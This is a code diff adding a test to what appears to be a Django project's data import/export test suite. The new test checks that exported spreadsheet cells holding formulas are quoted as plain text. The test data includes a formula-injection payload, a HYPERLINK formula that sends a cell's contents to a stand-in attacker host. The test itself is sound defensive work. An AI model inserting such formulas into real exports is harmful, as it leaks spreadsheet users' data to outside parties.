@@ -150,3 +150,15 @@ def test_the_command_lists_bad_rows_and_fails(tmp_path: Path) -> None:
         call_command("import_centre", "adaptation.adaptations", str(path), "--no-progress",
                      stderr=err)
     assert "第2行" in err.getvalue() and not Adaptation.objects.exists()
+
+
+def test_export_quotes_text_a_spreadsheet_would_run_and_reads_back() -> None:
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    adaptation(evil)
+    data = export_table(ADAPTATIONS, Adaptation.objects.all())
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=1)
+    assert cell.value == "'" + evil and cell.data_type == "s"
